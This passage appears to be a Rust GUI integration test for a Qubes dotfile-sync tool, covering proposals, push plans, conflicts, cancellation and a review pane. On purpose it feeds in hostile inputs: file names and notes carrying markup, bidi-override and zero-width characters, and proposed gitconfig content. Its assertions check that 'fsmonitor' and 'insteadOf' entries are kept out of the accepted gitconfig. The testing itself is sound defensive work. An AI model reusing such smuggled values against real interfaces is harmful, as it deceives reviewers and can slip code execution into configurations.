    let world = tempfile::tempdir().expect("temp dir");
    let demo = Demo::start(Some(world.path().to_owned())).expect("the demo starts");
    let address = demo.bus_address().to_owned();
    let can_push = demo::find_program("qrexec-client-vm").is_ok();
    // The demo's bus doubles as the session bus, with a tray host and a notification
    // server on it.
    let (_desktop, seen) = fake_desktop::serve(&address);
    common::init_gtk_on(&address);
    adw::init().expect("libadwaita initialises");
    adw::StyleManager::default().set_color_scheme(adw::ColorScheme::ForceLight);

    let (app, window) = common::start_app(&address, false);
    window.set_default_size(1360, 860);

    let s = begin("no backend: the error page stays, Push is off");
    no_backend(&app);
    s.end();

    // The sidebar fills from the backend: every qube, with badges.
    let s = begin("the sidebar fills from the backend, with badges");
    wait_until("the qubes and the proposal", || {
        window.qube_rows().len() >= 9 && window.pending_proposals().len() == 1
    });
    assert_eq!(window.proposal_count_label(), "1");
    let rows = window.qube_rows();
    let badges = |name: &str| {
        rows.iter()
            .find(|r| r.qube_name() == name)
            .unwrap_or_else(|| panic!("no row for {name}"))
            .badges()
    };
    assert!(
        badges("vault").contains(&Badge::NotPersistent),
        "{:?}",
        badges("vault")
    );
    assert!(badges("work").contains(&Badge::ProposalPending));
    assert!(badges("work").contains(&Badge::Outdated));
    // A proposal is pending: the tray item is registered with the host.
    wait_until("the tray item", || {
        app.tray_shown() && !fake_desktop::live_items(&address).is_empty()
    });
    assert_eq!(seen.items().len(), 1, "{:?}", seen.items());
    // It was pending at start: not news, no notification.
    assert!(
        seen.notifications().is_empty(),
        "{:?}",
        seen.notifications()
    );
    // Each badge is an icon of the theme (not a missing-icon glyph), and "changed in
    // the qube" is not the question mark that reads as the replacement character.
    let theme = gtk::IconTheme::for_display(&gtk::prelude::WidgetExt::display(&window));
    for badge in [
        Badge::InSync,
        Badge::Outdated,
        Badge::Drifted,
        Badge::Conflict,
        Badge::ProposalPending,
        Badge::NotPersistent,
    ] {
        assert!(
            theme.has_icon(badge.icon_name()),
            "{badge:?}: no icon {} in the theme",
            badge.icon_name()
        );
    }
    assert!(!Badge::Drifted.icon_name().starts_with("dialog-question"));
    s.end();

    let s = begin("a new proposal: notification and count");

    // A second proposal arrives (personal may propose vim): notification, count 2.
    demo::spool_proposal(
        &world.path().join("spool"),
        "personal",
        "vim",
        ".vimrc",
        b"set nocompatible\nset modeline\nsyntax on\n",
        "modelines back on",
    )
    .expect("spool a proposal");
    backend(&address, async |p| {
        p.ingest_spool().await.expect("IngestSpool")
    });
    wait_until("the notification of the new proposal", || {
        window.pending_proposals().len() == 2
            && seen
                .notifications()
                .iter()
                .any(|(summary, body)| summary.contains("personal") && body.contains(".vimrc"))
    });
    assert_eq!(window.proposal_count_label(), "2");
    assert_eq!(seen.notifications().len(), 1, "{:?}", seen.notifications());
    let second = window
        .pending_proposals()
        .iter()
        .find(|p| p.source_qube == "personal")
        .map(|p| p.id)
        .expect("the proposal from personal");

    s.end();

    // The keyboard shortcuts window comes from the GResource (gtk/help-overlay.ui).
    let s = begin("the shortcuts window: Ctrl+, and Ctrl+. tell themselves apart");
    let overlay = window
        .help_overlay()
        .expect("a help overlay from the resources");
    WidgetExt::activate_action(&window, "win.show-help-overlay", None).expect("help overlay");
    wait_until("the shortcuts window", || overlay.is_mapped());
    shortcuts_tell_keys_apart(overlay.upcast_ref());
    screenshot(&overlay, "shortcuts.png");
    overlay.close();
    s.end();

    let s = begin("a qube's page: files and their state");

    // Open a qube.
    window.open_qube("vault");
    wait_until("the toasts to time out", || window.toasts_on_show() == 0);
    assert_eq!(window.current_page().as_deref(), Some("qube"));
    assert_eq!(window.qube_page().qube_name().as_deref(), Some("vault"));
    // Sync state per file, from the profile's files.
    wait_until("vault's files", || {
        window.qube_page().file_rows().len() == 2
    });
    let mut files = window.qube_page().file_rows();
    files.sort();
    assert_eq!(
        files,
        [
            (
                "git:.config/git/ignore".to_owned(),
                "Never pushed".to_owned()
            ),
            ("git:.gitconfig".to_owned(), "Never pushed".to_owned()),
        ]
    );
    screenshot(&window, "main-window.png");
    s.end();

    // Its settings: let it propose vim changes; the backend stores it.
    let s = begin("qube settings: stored, and the persistence tab stays current");
    let dialog = window.open_settings().expect("the settings dialog opens");
    wait_until("the dialog", || dialog.is_mapped());
    screenshot(&dialog, "qube-settings.png");
    dialog.set_visible_page_name("persistence");
    screenshot(&dialog, "qube-settings-persistence.png");
    dialog.set_visible_page_name("profiles");
    let switch = dialog
        .profile_switch("vim", false)
        .expect("a may-propose switch for vim");
    assert!(!switch.is_active());
    switch.activate();
    wait_until("the new settings in the backend", || {
        let (_, may_propose, _) = backend(&address, async |p| {
            p.get_qube_settings("vault").await.expect("GetQubeSettings")
        });
        may_propose == ["vim"]
    });
    // A profile just assigned: its paths appear in the persistence tab at once.
    let shown = |dialog: &qubes_config_sync::widgets::QcsQubeSettings, path: &str| {
        dialog
            .persistence_shown()
            .into_iter()
            .find(|(p, _)| p == path)
            .map(|(_, verdict)| verdict)
    };
    assert_eq!(shown(&dialog, ".vimrc"), None);
    dialog
        .profile_switch("vim", true)
        .expect("an assign switch for vim")
        .activate();
    wait_until("vim's path in the persistence tab", || {
        shown(&dialog, ".vimrc").as_deref() == Some("Lost at restart")
    });
    // Persistence: Fix the path that would be lost at restart.
    assert_eq!(
        shown(&dialog, ".config/git/ignore").as_deref(),
        Some("Lost at restart")
    );
    let fix = dialog
        .fix_button(".config/git/ignore")
        .expect("a Fix button for the lost path");
    fix.emit_clicked();
    wait_until("the fix through the backend", || {
        let vault = qube_list(&address)
            .qubes
            .into_iter()
            .find(|q| q.name == "vault")
            .expect("vault");
        vault
            .persistence
            .iter()
            .any(|p| p.path == ".config/git/ignore" && p.verdict.as_str() == "persistent")
    });
    // The dialog says so too: no "lost at restart", no Fix button any more.
    wait_until("the fixed path in the persistence tab", || {
        shown(&dialog, ".config/git/ignore").as_deref() == Some("Persistent")
    });
    assert!(dialog.fix_button(".config/git/ignore").is_none());
    // Unassigned again: its path leaves the tab.
    dialog
        .profile_switch("vim", true)
        .expect("the assign switch for vim")
        .activate();
    wait_until("vim's path gone from the persistence tab", || {
        shown(&dialog, ".vimrc").is_none() && shown(&dialog, ".gitconfig").is_some()
    });
    let (assigned, _, _) = backend(&address, async |p| {
        p.get_qube_settings("vault").await.expect("GetQubeSettings")
    });
    assert_eq!(assigned, ["git"]);
    dialog.close();
    s.end();

    // A new profile, through its dialog.
    let s = begin("a new profile: created, opened and marked in the sidebar");
    let dialog = window.new_profile();
    wait_until("the new-profile dialog", || dialog.is_mapped());
    let entries = entries_of(dialog.upcast_ref());
    assert_eq!(entries.len(), 2);
    entries[0].set_text("bash");
    entries[1].set_text("Shell settings");
    dialog.response("create");
    wait_until("the new profile in the editor", || {
        window.current_page().as_deref() == Some("profile")
            && window.profile_editor().profile_id().as_deref() == Some("bash")
    });
    let profiles = backend(&address, async |p| {
        p.list_profiles().await.expect("ListProfiles")
    });
    assert!(
        profiles
            .iter()
            .any(|(id, d, _)| id == "bash" && d == "Shell settings")
    );
    let bash = SidebarItem::Profile("bash".to_owned());
    wait_until("the new profile marked in the sidebar", || {
        window.marked_items() == [bash.clone()] && !window.is_busy()
    });
    s.end();

    let s = begin("unsaved edits: save, discard or cancel, never lost silently");
    unsaved_edits(&window, &address);
    s.end();

    // Edit a profile: .vimrc gets a line, saved as a new generation.
    let s = begin("edit a profile: save, and its allowlist of new files");
    window.open_profile_file("vim", Some(".vimrc"));
    let editor = window.profile_editor();
    wait_until("the open .vimrc", || {
        editor.current_path().as_deref() == Some(".vimrc")
    });
    let edited = "set nocompatible\nset modelines=0\nset nomodeline\nsyntax on\nset number\nset relativenumber\n";
    editor.set_content(edited);
    WidgetExt::activate_action(&window, "win.save-file", None).expect("win.save-file");
    wait_until("the saved .vimrc in the store", || {
        let (content, _, _) = backend(&address, async |p| {
            p.get_file("vim", ".vimrc").await.expect("GetFile")
        });
        content == edited.as_bytes()
    });

    // The profile's allowlist of new files, through the editor: added, then removed.
    editor.change_glob(".vim/after/**", true);
    let globs = |address: &str| {
        let json = backend(address, async |p| {
            p.get_profile("vim").await.expect("GetProfile")
        });
        serde_json::from_str::<qcs_client::types::ProfileView>(&json)
            .expect("ProfileView")
            .new_path_globs
    };
    wait_until("the glob in the store and the editor", || {
        globs(&address) == [".vim/after/**"] && editor.shown_globs() == [".vim/after/**"]
    });
    editor.change_glob(".vim/after/**", false);
    wait_until("the glob removed", || {
        globs(&address).is_empty() && editor.shown_globs().is_empty()
    });
    s.end();

    // Plan and push into work.
    let s = begin("plan and push, conflicts, three-way, overwrite, cancel");
    window.plan_push(vec!["work".to_owned()]);
    let plan_page = window.push_plan();
    wait_until("the push plan", || plan_page.plan_data().is_some());
    let plan = plan_page.plan_data().expect("a plan");
    if can_push {
        let work = plan
            .qubes
            .iter()
            .find(|q| q.qube == "work")
            .expect("work planned");
        assert!(work.error.is_none(), "{:?}", work.error);
        let paths: Vec<&str> = work.items.iter().map(|i| i.path.as_str()).collect();
        assert!(
            paths.contains(&".vimrc") && paths.contains(&".gitconfig"),
            "{paths:?}"
        );
        WidgetExt::activate_action(&window, "win.execute-plan", None).expect("execute");
        wait_until("the push to finish", || plan_page.last_summary().is_some());
        let summary = plan_page.last_summary().expect("summary");
        let outcomes: Vec<&str> = summary
            .qubes
            .iter()
            .flat_map(|q| q.files.iter().map(|f| f.outcome.as_str()))
            .collect();
        assert!(
            !outcomes.is_empty() && outcomes.iter().all(|o| *o == "written"),
            "{summary:?}"
        );
        let qubes = qube_list(&address);
        let work = qubes.qubes.iter().find(|q| q.name == "work").expect("work");
        assert!(
            work.profiles
                .iter()
                .all(|p| p.state == qcs_client::types::SyncState::InSync),
            "{:?}",
            work.profiles
        );

        // The qube page shows every file of work in sync now, the template (brought by
        // the demo's tag rule) among them.
        window.open_qube("work");
        let expected = [
            "git-identity:.config/git/config",
            "git:.config/git/ignore",
            "git:.gitconfig",
            "ssh:.ssh/config",
            "vim:.vimrc",
        ];
        let in_sync = || {
            let rows = window.qube_page().file_rows();
            let all_in_sync = !rows.is_empty() && rows.iter().all(|(_, s)| s == "In sync");
            let has_all = expected.iter().all(|e| rows.iter().any(|(r, _)| r == e));
            (all_in_sync && has_all, rows)
        };
        let limit = Instant::now() + Duration::from_secs(180);
        loop {
            let (done, rows) = in_sync();
            if done {
                break;
            }
            assert!(
                Instant::now() < limit,
                "work's files never all in sync: {rows:?}"
            );
            if !glib::MainContext::default().iteration(false) {
                std::thread::sleep(Duration::from_millis(5));
            }
        }

        // The store and work both change .vimrc since the push: the store one line, work
        // another (with a hidden zero-width space), and both the last line differently.
        // The next plan has a conflict, and the sidebar says so.
        let store_vimrc = "set nocompatible\nset modelines=0\nset nomodeline\nsyntax enable\nset number\nset norelativenumber\n";
        backend(&address, async |p| {
            p.put_file("vim", ".vimrc", store_vimrc.as_bytes(), 0o644)
                .await
                .expect("PutFile")
        });
        let qube_vimrc = "set compatible\nset modelines=0\nset nomodeline\nsyntax on\nset number\nset cursorline\u{200B}\n\" Long lines wrap in every column instead of scrolling out of sight: this comment says so at length, twice over, to show it.\n";
        std::fs::write(world.path().join("qubes/work/home/.vimrc"), qube_vimrc)
            .expect("change work's .vimrc");
        window.plan_push(vec!["work".to_owned()]);
        let conflict = |plan: &qcs_client::types::PushPlan| {
            plan.qubes.iter().any(|q| {
                q.items.iter().any(|i| {
                    i.path == ".vimrc" && i.action == qcs_client::types::PlanAction::Conflict
                })
            })
        };
        wait_until("the conflict in the plan", || {
            plan_page.plan_data().is_some_and(|p| conflict(&p))
        });
        wait_until("the conflict badge on work", || {
            window
                .qube_rows()
                .iter()
                .any(|r| r.qube_name() == "work" && r.badges().contains(&Badge::Conflict))
        });
        // The conflict opens on its three-way view: last pushed / store / qube.
        assert!(plan_page.select_path("work", ".vimrc"), "the .vimrc row");
        // The conflict's row has Overwrite: the line above the view says what choosing
        // a side means here.
        let hint = plan_page
            .conflict_hint()
            .expect("a line about the conflict");
        assert!(hint.contains("Overwrite"), "{hint}");
        let three_way = plan_page.three_way_view();
        wait_until("the three-way view", || {
            plan_page.shows_three_way() && three_way.is_ready()
        });
        assert_eq!(
            three_way.changed_regions(),
            [RegionKind::Theirs, RegionKind::Ours, RegionKind::Conflict]
        );
        let rows = three_way.rendered_rows();
        assert!(
            rows[0].contains("Base") && rows[0].contains("Store") && rows[0].contains("Qube"),
            "{rows:#?}"
        );
        let row_with = |text: &str| {
            rows.iter()
                .find(|r| r.contains(text))
                .unwrap_or_else(|| panic!("no row with {text:?}: {rows:#?}"))
                .clone()
        };
        // Columns: base │ store │ qube.
        assert_eq!(
            row_with("set compatible"),
            "set nocompatible │ set nocompatible │ set compatible"
        );
        assert_eq!(
            row_with("syntax enable"),
            "syntax on │ syntax enable │ syntax on"
        );
        let conflict_row = row_with("cursorline");
        assert!(
            conflict_row
                .starts_with("set relativenumber │ set norelativenumber │ set cursorline⟦U+200B"),
            "{conflict_row}"
        );
        assert!(
            !rows.iter().any(|r| r.contains('\u{200B}')),
            "no raw zero-width space reaches a label"
        );
        wait_until("the toasts to time out", || window.toasts_on_show() == 0);
        screenshot(&window, "three-way.png");
        // Import the qube's version: it becomes a proposal to review.
        window.open_qube("work");
        let before = window.pending_proposals().len();
        WidgetExt::activate_action(&window, "win.snapshot-qube", None).expect("snapshot");
        wait_until("the imported proposal", || {
            window.pending_proposals().len() == before + 1
        });
        let imported = window
            .pending_proposals()
            .iter()
            .find(|p| p.source_qube == "work" && p.path == ".vimrc")
            .map(|p| p.id)
            .expect("the imported .vimrc");
        // The store moved on since work's base: the review offers the three-way view.
        window.open_proposal(imported);
        let review = window.review_pane();
        wait_until("the imported proposal in review", || {
            review.proposal_id() == Some(imported) && review.diff_view().is_ready()
        });
        assert!(review.three_way_toggle().is_visible());
        assert!(!review.shows_three_way(), "the diff comes first");
        review.three_way_toggle().set_active(true);
        wait_until("the proposal's three-way view", || {
            review.shows_three_way() && review.three_way_view().is_ready()
        });
        assert_eq!(
            review.three_way_view().changed_regions(),
            [RegionKind::Theirs, RegionKind::Ours, RegionKind::Conflict]
        );
        let rows = review.three_way_view().rendered_rows();
        assert!(rows[0].contains("Proposal"), "{rows:#?}");
        backend(&address, async |p| {
            p.reject_proposal(imported, "test").await.expect("reject")
        });
        wait_until("the inbox without it", || {
            window.pending_proposals().len() == before
        });
        // Overwrite the qube's copy after all (the agent keeps a backup).
        window.plan_push(vec!["work".to_owned()]);
        wait_until("the plan again", || {
            plan_page.plan_data().is_some_and(|p| conflict(&p))
        });
        plan_page.choose_overwrite("work", ".vimrc");
        wait_until("the forced update", || {
            plan_page.plan_data().is_some_and(|p| {
                p.qubes
                    .iter()
                    .flat_map(|q| &q.items)
                    .any(|i| i.path == ".vimrc" && i.forced)
            })
        });
        WidgetExt::activate_action(&window, "win.execute-plan", None).expect("execute");
        wait_until("the overwrite push", || {
            plan_page.last_summary().is_some_and(|s| {
                s.qubes
                    .iter()
                    .flat_map(|q| &q.files)
                    .any(|f| f.path == ".vimrc" && f.outcome.as_str() == "written")
            })
        });
        assert_eq!(
            std::fs::read_to_string(world.path().join("qubes/work/home/.vimrc")).expect("read"),
            store_vimrc
        );

        // Progress and cancel: untrusted's apply service waits for the test, so the
        // push is still running when Cancel is pressed.
        let hold = world.path().join("hold-apply");
        let status = Command::new("mkfifo").arg(&hold).status().expect("mkfifo");
        assert!(status.success());
        let agent = demo::find_program("qubes-config-agent").expect("agent");
        qcs_sim::world::World::load(world.path())
            .expect("load the world")
            .install_rpc_service(
                "untrusted",
                "qubes.ConfigApply",
                format!(
                    "#!/bin/sh\nread _ < '{}'\nexec '{}' apply\n",
                    hold.display(),
                    agent.display()
                )
                .as_bytes(),
            )
            .expect("install the held service");
        window.plan_push(vec!["untrusted".to_owned()]);
        wait_until("the plan for untrusted", || {
            plan_page
                .plan_data()
                .is_some_and(|p| p.qubes.iter().any(|q| q.qube == "untrusted"))
        });
        // untrusted is halted: planning does not start it; the push does, once chosen.
        plan_page
            .start_switch("untrusted")
            .expect("the Start and push switch of untrusted")
            .set_active(true);
        WidgetExt::activate_action(&window, "win.execute-plan", None).expect("execute");
        wait_until("the running push", || plan_page.can_cancel());
        let (fraction, _) = plan_page.progress().expect("a progress bar while it runs");
        assert_eq!(fraction, 0.0);
        WidgetExt::activate_action(&window, "win.cancel-job", None).expect("cancel");
        wait_until("the backend to take the cancel request", || {
            plan_page.cancel_sent()
        });
        // Let the qube answer: opening the FIFO blocks until the service reads it.
        let fifo = hold.clone();
        let release = std::thread::spawn(move || std::fs::write(&fifo, b"go\n"));
        wait_until("the cancelled push to end", || {
            !plan_page.is_running() && plan_page.last_summary().is_some_and(|s| s.cancelled)
        });
        // The cancel may win before the service ever ran (the file is then skipped, not
        // written): open the FIFO for reading ourselves so the release thread's write
        // returns either way instead of blocking forever.
        let _reader = std::fs::OpenOptions::new()
            .read(true)
            .custom_flags(rustix::fs::OFlags::NONBLOCK.bits() as i32)
            .open(&hold)
            .expect("open the FIFO");
        release
            .join()
            .expect("release thread")
            .expect("write the FIFO");
        // The summary says what the backend did: a cancel that came after the qube had
        // started stopped nothing, and then nothing claims it was cancelled.
        let summary = plan_page.last_summary().expect("summary");
        let stopped = !qubes_config_sync::model::plan::cancelled_qubes(&summary).is_empty();
        let status = plan_page.status_text();
        let (fraction, text) = plan_page.progress().expect("the final progress");
        let written = summary
            .qubes
            .iter()
            .flat_map(|q| &q.files)
            .filter(|f| f.outcome.as_str() == "written")
            .count();
        if stopped {
            assert_eq!((fraction, text.as_str()), (1.0, "Cancelled"));
            assert!(status.starts_with("Push cancelled"), "{status}");
            assert_eq!(written, 0, "{summary:?}");
        } else {
            assert_eq!((fraction, text.as_str()), (1.0, "Finished"));
            assert!(
                status.starts_with("The cancel came too late") && !status.contains("cancelled"),
                "{status}"
            );
            assert!(written > 0, "{summary:?}");
        }
    } else {
        // Without the simulator's qrexec-client-vm the backend cannot reach the qubes:
        // the plan says so per qube instead of inventing items.
        eprintln!("ui test: NOT PUSHING — the simulator's qrexec-client-vm is not built");
        assert!(
            plan.qubes
                .iter()
                .all(|q| q.error.is_some() || q.items.is_empty())
        );
    }

    s.end();

    // Open the proposal: findings, hidden characters as tokens, Accept gated.
    let s = begin("review: findings, acknowledgements, one hunk accepted");
    let first = window
        .pending_proposals()
        .iter()
        .find(|p| p.source_qube == "work")
        .map(|p| p.id)
        .expect("the proposal from work");
    window.open_proposal(first);
    let review = window.review_pane();
    wait_until("the review pane", || {
        window.current_page().as_deref() == Some("review")
            && review.proposal_id().is_some()
            && review.diff_view().is_ready()
    });
    let heading = review.findings_heading();
    assert!(heading.contains("critical"), "{heading}");
    let rows = review.diff_view().rendered_rows();
    assert!(
        rows.iter().any(|r| r.contains("⟦U+202E")),
        "the RLO is a visible token: {rows:#?}"
    );
    assert!(rows.iter().any(|r| r.contains("⟦U+200B")), "{rows:#?}");
    assert!(
        !rows.iter().any(|r| r.contains('\u{202E}')),
        "no raw bidi control reaches a label"
    );
    assert!(!review.accept_button().is_sensitive());
    // Point at a finding's line, as a user clicking "Line N" does.
    let finding_rows = review.finding_rows();
    if let Some((_, row)) = finding_rows
        .iter()
        .find(|(_, r)| r.line_button().is_sensitive())
    {
        row.line_button().emit_clicked();
        wait_until("the finding's line on screen and marked", || {
            review.diff_view().highlighted_line().is_some()
        });
        let line = review
            .diff_view()
            .highlighted_line()
            .expect("a line is marked");
        // The finding is on an added line.
        let rows = review.diff_view().rendered_rows();
        let marked = &rows[review.diff_view().row_of_line(line).expect("its row")];
        assert!(
            marked.starts_with("+ "),
            "line {line}: {marked} in {rows:#?}"
        );
    }
    wait_until("the toasts to time out", || window.toasts_on_show() == 0);
    screenshot(&window, "review-pane.png");
    // The dark style: the same pane, for the palette of the dark variant.
    adw::StyleManager::default().set_color_scheme(adw::ColorScheme::ForceDark);
    wait_until("the diff in the dark palette", || {
        review.diff_view().is_ready()
    });
    screenshot(&window, "review-pane-dark.png");
    adw::StyleManager::default().set_color_scheme(adw::ColorScheme::ForceLight);
    wait_until("the diff in the light palette", || {
        review.diff_view().is_ready()
    });

    // Acknowledge every critical finding; Accept still waits for a hunk.
    let blocking: Vec<_> = finding_rows
        .iter()
        .filter(|(_, r)| r.ack_check().is_visible())
        .collect();
    assert!(blocking.len() >= 2, "{} blocking findings", blocking.len());
    for (i, (_, row)) in blocking.iter().enumerate() {
        assert!(!review.accept_button().is_sensitive());
        row.ack_check().activate();
        assert!(row.ack_check().is_active());
        if i + 1 < blocking.len() {
            assert!(!review.accept_button().is_sensitive());
        }
    }
    assert!(
        !review.accept_button().is_sensitive(),
        "no hunk accepted yet"
    );
    // Accept only the first hunk (the name line).
    assert!(review.diff_view().decisions().len() >= 3);
    review.diff_view().scroll_to(0.0);
    wait_until("the first hunk's header on screen", || {
        review.diff_view().hunk_toggles(0).is_some()
    });
    let (accept_first, _) = review.diff_view().hunk_toggles(0).expect("toggles");
    accept_first.emit_clicked();
    assert!(review.accept_button().is_sensitive());
    // Ctrl+Return: the window's primary action accepts on the review page.
    WidgetExt::activate_action(&window, "win.primary", None).expect("win.primary");
    wait_until("the proposal to leave the inbox", || {
        window.pending_proposals().len() == 1 && !window.is_busy()
    });

    // The store changed, by that hunk only.
    // The editor marks the accepted bidi controls instead of showing them raw.
    window.open_profile_file("git", Some(".gitconfig"));
    wait_until("the editor's warning", || {
        window.profile_editor().current_path().as_deref() == Some(".gitconfig")
            && window
                .profile_editor()
                .hidden_warning()
                .is_some_and(|w| w.contains("line 2: U+202E RLO"))
    });
    wait_until("the toasts to time out", || window.toasts_on_show() == 0);
    screenshot(&window, "profile-editor.png");
    let (content, _, _) = backend(&address, async |p| {
        p.get_file("git", ".gitconfig").await.expect("GetFile")
    });
    let content = String::from_utf8(content).expect("UTF-8");
    assert_ne!(content, GITCONFIG);
    assert!(content.contains("\tname = Alice\u{202E}"), "{content:?}");
    assert!(!content.contains("fsmonitor"), "{content:?}");
    assert!(!content.contains("insteadOf"), "{content:?}");
    // One proposal still waits: the tray stays.
    assert!(app.tray_shown());
    s.end();

    let s = begin("side by side, reject, hostile names");

    // Side by side, then reject the other proposal with the keyboard's action.
    window.open_proposal(second);
    wait_until("the second proposal", || {
        review.proposal_id() == Some(second) && review.diff_view().is_ready()
    });
    WidgetExt::activate_action(&window, "win.toggle-diff-layout", None).expect("toggle");
    wait_until("the side-by-side diff", || review.diff_view().is_ready());
    let rows = review.diff_view().rendered_rows();
    assert!(
        rows.iter().any(|r| r
            .split_once(" │ ")
            .is_some_and(|(old, new)| old == "set modelines=0" && new.starts_with("set modeline"))),
        "{rows:#?}"
    );
    review.reject();
    wait_until("an empty inbox", || {
        window.pending_proposals().is_empty() && !window.is_busy()
    });
    let pending = backend(&address, async |p| {
        p.list_proposals("pending").await.expect("ListProposals")
    });
    assert!(pending.contains("\"proposals\":[]"), "{pending}");
    // Nothing pending: the item is gone from the bus.
    wait_until("the tray item to go", || {
        !app.tray_shown() && fake_desktop::live_items(&address).is_empty()
    });

    // New paths reach the inbox only through the profile's allowlist.
    backend(&address, async |p| {
        p.allow_new_paths("vim", &[".vim/**", "00p*/**"], true)
            .await
            .expect("AllowNewPaths vim");
        p.allow_new_paths("git", &[".g*"], true)
            .await
            .expect("AllowNewPaths git");
    });
    // A path from a qube is text, never markup: a proposal of a new file whose name
    // holds markup is listed as written.
    let hostile = ".vim/<b>big</b>&amp;.vim";
    // (A new file reaches the inbox only through the profile's allowlist of new paths.)
    backend(&address, async |p| {
        p.allow_new_paths("vim", &[".vim/**"], true)
            .await
            .expect("AllowNewPaths")
    });
    demo::spool_proposal(
        &world.path().join("spool"),
        "personal",
        "vim",
        hostile,
        b"set hlsearch\n",
        "<span size='50000'>look</span>",
    )
    .expect("spool the hostile name");
    backend(&address, async |p| {
        p.ingest_spool().await.expect("IngestSpool")
    });
    wait_until("the hostile proposal", || {
        window.pending_proposals().len() == 1
    });
    let id = window.pending_proposals()[0].id;
    assert_eq!(
        window.proposal_row_titles(),
        [format!("#{id} · {hostile}")],
        "the row shows the name as it is"
    );
    // The notification body is escaped too (servers may render body markup).
    wait_until("the notification of the hostile name", || {
        seen.notifications()
            .iter()
            .any(|(_, body)| body.contains(".vim/&lt;b&gt;big&lt;/b&gt;&amp;amp;.vim"))
    });
    window.open_proposal(id);
    wait_until("its review", || {
        review.proposal_id() == Some(id) && review.diff_view().is_ready()
    });
    assert!(review.title().contains(hostile), "{}", review.title());
    s.end();

    // Issue 17: each attack on the review pane, as a named step.
    let trust = TrustGate {
        window: &window,
        review: &review,
        address: &address,
        spool: world.path().join("spool"),
        seen: &seen,
    };
    step(
        "decided elsewhere: the open proposal is rejected from outside",
        || trust.decided_elsewhere(id),
    );
    let big = step("clicks and shortcuts before layout accept nothing", || {
        trust.nothing_before_layout()
    });
    step("mark all: what the rows show is the state", || {
        trust.mark_all_shows_state()
    });
    step("one acknowledgement covers one finding", || {
        trust.acknowledgement_is_specific(big)
    });
    step(
        "store changed under the pane: refused in words, re-opened",
        || trust.store_changed(big),
    );
    step("look-alike paths and keys are marked", || {
        trust.look_alikes()
    });
    step(
        "long path, line and note: controls stay in the window",
        || trust.long_things(),
    );
    step(
        "a 64-file submission: one sidebar row, riskiest file first",
        || trust.many_files(),
    );
    step("start and push a halted qube", || {
        start_and_push_a_halted_qube(&window, &address, world.path(), can_push);
    });
    step(
        "review pane at 600 and 360 px: controls inside, findings resizable",
        || {
            review_layout::review_pane_narrow(
                &window,
                &review,
                &address,
                &world.path().join("spool"),
            )
        },
    );
    step(
        "narrow windows: 600 px keeps the header, 360 px folds",
        || narrow_windows(&window),
    );

    window.close();
    settle();
    drop(app);
    drop(demo);
}

/// Issue 14 item 3 (added by helper halted, a step of its own): planning never starts a
/// qube. The demo's `vault` is halted (and re-applies on start): its plan row has a
/// "Start and push" switch, Push Now stays off while nothing is chosen, and the qube
/// stays halted; with the switch on, the push starts it and writes its profile.
fn start_and_push_a_halted_qube(
    window: &QcsWindow,
    address: &str,
    world: &std::path::Path,
    can_push: bool,
) {
    let power = |qube: &str| {
        qube_list(address)
            .qubes
            .into_iter()
            .find(|q| q.name == qube)
            .map(|q| q.power_state)
            .unwrap_or_default()
    };
    assert_eq!(power("vault"), "Halted");
    window.plan_push(vec!["vault".to_owned()]);
    let plan_page = window.push_plan();
    wait_until("the plan of vault", || {
        plan_page
            .plan_data()
            .is_some_and(|p| p.qubes.iter().any(|q| q.qube == "vault"))
    });
    let plan = plan_page.plan_data().expect("a plan");
    let vault = &plan.qubes[0];
    assert_eq!(vault.power, qcs_client::types::PlanPower::Halted);
    assert!(vault.items.is_empty(), "{vault:?}");
    assert_eq!(power("vault"), "Halted", "planning started it");
    assert!(
        !plan_page.can_execute_now(),
        "nothing chosen, nothing to push"
    );
    let switch = plan_page
        .start_switch("vault")
        .expect("a Start and push switch");
    assert!(!switch.is_active(), "off unless the user chooses");
    if !can_push {
        return;
    }
    switch.set_active(true);
    assert!(plan_page.can_execute_now());
    assert_eq!(plan_page.chosen_starts(), ["vault"]);
    WidgetExt::activate_action(window, "win.execute-plan", None).expect("execute");
    wait_until("the push that starts vault", || {
        plan_page
            .last_summary()
            .is_some_and(|s| s.qubes.iter().any(|q| q.qube == "vault"))
    });
    let summary = plan_page.last_summary().expect("summary");
    assert!(summary.is_success(), "{summary:?}");
    assert_eq!(power("vault"), "Running");
    assert!(world.join("qubes/vault/home/.gitconfig").exists());
}

/// Issue 14: without a backend, the window says why and Push… (the action, the button
/// and a direct call) leaves that page: no empty plan with a Push Now that does nothing.
fn no_backend(app: &QcsApplication) {
    let lonely = QcsWindow::new(app);
    lonely.set_default_size(900, 600);
    lonely.present();
    lonely.connect(Some(
        "unix:path=/nonexistent/qubes-config-sync-test-bus".to_owned(),
    ));
    wait_until("the backend error", || lonely.backend_error().is_some());
    assert_eq!(lonely.current_page().as_deref(), Some("empty"));
    for action in ["plan-push", "execute-plan", "new-profile", "refresh"] {
        let enabled = lonely
            .lookup_action(action)
            .unwrap_or_else(|| panic!("win.{action}"))
            .is_enabled();
        assert!(!enabled, "win.{action} is on without a backend");
    }
    let _ = WidgetExt::activate_action(&lonely, "win.plan-push", None);
    lonely.plan_push(Vec::new());
    settle();
    assert_eq!(lonely.current_page().as_deref(), Some("empty"));
    assert!(lonely.push_plan().plan_data().is_none());
    let push = lonely
        .header_buttons()
        .into_iter()
        .find(|b| {
            b.downcast_ref::<gtk::Button>()
                .and_then(|b| b.action_name())
                .is_some_and(|a| a == "win.plan-push")
        })
        .expect("the Push… button");
    assert!(!push.is_sensitive(), "Push… is offered without a backend");
    screenshot(&lonely, "no-backend.png");
    lonely.destroy();
}

/// The shortcuts window shows Ctrl+, and Ctrl+. as key caps of one small glyph each;
/// their rows must name the key in words, so they do not read as the same shortcut.
fn shortcuts_tell_keys_apart(root: &gtk::Widget) {
    fn shortcuts(widget: &gtk::Widget, out: &mut Vec<gtk::ShortcutsShortcut>) {
        if let Some(s) = widget.downcast_ref::<gtk::ShortcutsShortcut>() {
            out.push(s.clone());
        }
        let mut child = widget.first_child();
        while let Some(c) = child {
            shortcuts(&c, out);
            child = c.next_sibling();
        }
    }
    let mut all = Vec::new();
    shortcuts(root, &mut all);
    let words = |accel: &str| -> String {
        let s = all
            .iter()
            .find(|s| s.property::<Option<String>>("accelerator").as_deref() == Some(accel))
            .unwrap_or_else(|| panic!("no shortcut {accel}"));
        format!(
            "{} {}",
            s.property::<Option<String>>("title").unwrap_or_default(),
            s.property::<Option<String>>("subtitle").unwrap_or_default()
        )
    };
    let comma = words("<Control>comma");
    let period = words("<Control>period");
    assert!(comma.contains("comma"), "{comma}");
    assert!(period.contains("period"), "{period}");
    assert!(!comma.contains("period") && !period.contains("comma"));
}

